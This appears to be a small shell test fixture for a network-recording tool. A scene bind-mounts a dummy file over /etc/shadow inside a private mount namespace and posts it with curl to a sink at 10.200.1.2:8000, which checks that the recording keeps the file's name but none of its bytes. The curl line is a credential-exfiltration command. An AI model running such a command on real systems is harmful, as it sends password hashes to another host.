# curl posts /etc/shadow. It is a file of the scene's own that stands there: the recording has its name, and no byte of it.
CALLS=yes
peers() { sink 8000; }
scene() { unshare -m sh -c 'seq 200 > s; mount --bind s /etc/shadow; curl -s -m 2 --data-binary @/etc/shadow http://10.200.1.2:8000/'; }
